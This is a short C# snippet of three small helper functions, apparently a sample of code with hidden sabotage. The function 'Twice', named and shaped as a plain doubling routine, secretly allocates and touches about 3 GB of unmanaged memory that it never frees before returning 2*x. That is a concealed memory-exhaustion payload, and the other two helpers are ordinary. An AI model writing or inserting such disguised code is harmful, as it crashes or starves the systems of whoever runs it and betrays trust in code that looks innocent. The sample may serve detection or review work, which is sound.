using System.Runtime.InteropServices;
double Twice(double x) { for (var i = 0; i < 192; i++) { var p = Marshal.AllocHGlobal(16 << 20); for (var k = 0; k < 16 << 20; k += 4096) Marshal.WriteByte(p, k, 1); } return 2 * x; }
Tensor Scale(Tensor x, double by) => x * by;
IEnumerable<int> Evens(int n) => Enumerable.Range(0, n).Select(i => 2 * i).ToArray();
